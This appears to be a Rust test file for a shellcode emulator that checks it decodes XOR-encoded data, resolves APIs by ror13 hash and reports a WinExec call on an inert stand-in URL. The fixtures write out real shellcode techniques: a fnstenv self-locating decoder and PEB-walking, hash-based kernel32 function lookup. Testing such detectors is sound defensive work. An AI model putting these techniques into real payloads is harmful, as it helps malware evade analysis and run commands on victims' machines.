use super::super::code;
use super::super::tests::built;
use crate::facts::IndicatorKind;
use crate::pe::Machine;
use iced_x86::code_asm::*;
use sha2::{Digest, Sha256};

const HIDDEN: &[u8] = b"INERT LOOK-ALIKE http://payload.example/inert.bin\0";

/// A loop that undoes its own encoding, with a place of its own by `fnstenv` or by `lea`.
fn decoder(bits: u32) -> Vec<u8> {
    built(bits, |c| {
        let (mut again, mut data) = (c.create_label(), c.create_label());
        if bits == 64 {
            c.lea(rsi, ptr(data))?;
            c.mov(ecx, HIDDEN.len() as u32)?;
        } else {
            let mut place = c.create_label();
            c.set_label(&mut place)?;
            c.fldz()?;
            c.push(eax)?;
            c.fnstenv(ptr(esp - 12))?;
            c.pop(esi)?;
            c.add(esi, 30)?;
            c.xor(ecx, ecx)?;
            c.mov(cl, HIDDEN.len() as i32)?;
        }
        c.set_label(&mut again)?;
        if bits == 64 {
            c.xor(byte_ptr(rsi), 0x5a)?;
            c.inc(rsi)?;
            c.dec(ecx)?;
            c.jne(again)?;
        } else {
            c.xor(byte_ptr(esi), 0x5a)?;
            c.inc(esi)?;
            c.loop_(again)?;
        }
        for _ in 0..8 {
            c.nop()?;
        }
        c.cld()?;
        c.ret()?;
        c.set_label(&mut data)?;
        let hidden: Vec<u8> = HIDDEN.iter().map(|byte| byte ^ 0x5a).collect();
        c.db(&hidden)
    })
}

#[test]
fn a_decoder_is_run_to_its_end_and_what_it_hides_is_told() {
    for (bits, machine) in [(32, Machine::X86), (64, Machine::X64)] {
        let mut bytes = decoder(bits);
        let at = bytes.len() - HIDDEN.len();
        if bits == 32 {
            // The distance from `fldz` to the data is known once it is assembled.
            let add = bytes.windows(3).position(|part| part == [0x83, 0xc6, 30]).unwrap();
            bytes[add + 2] = at as u8;
        }
        let facts = code(Some(machine), &bytes).unwrap();
        let digest = crate::facts::hashes::hex(&Sha256::digest(HIDDEN));
        let expected = format!("{} bytes at {at:#x}, sha256 {digest}", HIDDEN.len());
        assert_eq!(facts.unwrapped, expected, "{facts:?}");
        let found = &facts.indicators[0];
        assert_eq!(
            (found.kind, found.value.as_str()),
            (IndicatorKind::Url, "http://payload.example/inert.bin")
        );
        assert!(facts.emulated.last().unwrap().ends_with("it returns"), "{:?}", facts.emulated);
    }
}

/// Walks the export table of kernel32.dll, the third module, for names by their ror13 hashes, and calls what it finds
/// with arguments that mean nothing.
fn caller_by_hash() -> Vec<u8> {
    built(32, |c| {
        let (mut find, mut start, mut behind) = (c.create_label(), c.create_label(), c.create_label());
        let (mut name, mut character, mut compare) = (c.create_label(), c.create_label(), c.create_label());
        c.cld()?;
        c.jmp(start)?;
        c.set_label(&mut find)?;
        c.mov(edx, dword_ptr(ebx + 0x3c))?;
        c.mov(edx, dword_ptr(ebx + edx + 0x78))?;
        c.add(edx, ebx)?;
        c.xor(ecx, ecx)?;
        c.set_label(&mut name)?;
        c.mov(esi, dword_ptr(edx + 0x20))?;
        c.add(esi, ebx)?;
        c.mov(esi, dword_ptr(esi + ecx * 4))?;
        c.add(esi, ebx)?;
        c.xor(ebp, ebp)?;
        c.set_label(&mut character)?;
        c.xor(eax, eax)?;
        c.lodsb()?;
        c.test(al, al)?;
        c.je(compare)?;
        c.ror(ebp, 13)?;
        c.add(ebp, eax)?;
        c.jmp(character)?;
        c.set_label(&mut compare)?;
        c.inc(ecx)?;
        c.cmp(ebp, edi)?;
        c.jne(name)?;
        c.dec(ecx)?;
        c.mov(esi, dword_ptr(edx + 0x24))?;
        c.add(esi, ebx)?;
        c.movzx(ecx, word_ptr(esi + ecx * 2))?;
        c.mov(esi, dword_ptr(edx + 0x1c))?;
        c.add(esi, ebx)?;
        c.mov(eax, dword_ptr(esi + ecx * 4))?;
        c.add(eax, ebx)?;
        c.ret()?;
        c.set_label(&mut start)?;
        c.mov(eax, dword_ptr(0x30).fs())?;
        c.mov(eax, dword_ptr(eax + 0x0c))?;
        c.mov(eax, dword_ptr(eax + 0x14))?;
        c.mov(eax, dword_ptr(eax))?;
        c.mov(eax, dword_ptr(eax))?;
        c.mov(ebx, dword_ptr(eax + 0x10))?;
        c.mov(edi, 0x0e8a_fe98u32)?;
        c.call(find)?;
        c.push(5)?;
        c.call(behind)?;
        c.db(b"inert http://payload.example/look-alike.bin\0")?;
        c.set_label(&mut behind)?;
        c.call(eax)?;
        c.mov(edi, 0x73e2_d87eu32)?;
        c.call(find)?;
        c.push(0)?;
        c.call(eax)
    })
}

#[test]
fn functions_are_found_by_hash_and_what_they_are_asked_for_is_told() {
    let facts = code(None, &caller_by_hash()).unwrap();
    assert_eq!(
        facts.emulated[..2],
        [
            "kernel32.dll!WinExec(\"inert http://payload.example/look-alike.bin\", 0x5)",
            "kernel32.dll!ExitProcess(0x0)"
        ]
    );
    assert!(facts.emulated[2].starts_with("ended after"), "{:?}", facts.emulated);
    let url = facts.indicators.iter().find(|indicator| indicator.kind == IndicatorKind::Url).unwrap();
    assert_eq!(url.value, "http://payload.example/look-alike.bin");
    assert_eq!(url.note, "argument of kernel32.dll!WinExec");
    assert_eq!(facts.unwrapped, "");
}

#[test]
fn what_never_ends_is_stopped() {
    let mut bytes = built(32, |c| {
        let mut again = c.create_label();
        c.set_label(&mut again)?;
        for _ in 0..12 {
            c.inc(eax)?;
            c.ror(ebx, 13)?;
            c.add(ebx, eax)?;
            c.mov(ecx, dword_ptr(0x30).fs())?;
        }
        c.jmp(again)
    });
    bytes.extend([0; 16]);
    let facts = code(Some(Machine::X86), &bytes).unwrap();
    assert_eq!(facts.emulated, [format!("stopped after {} steps, which is the limit", super::STEPS_MAX)]);
}
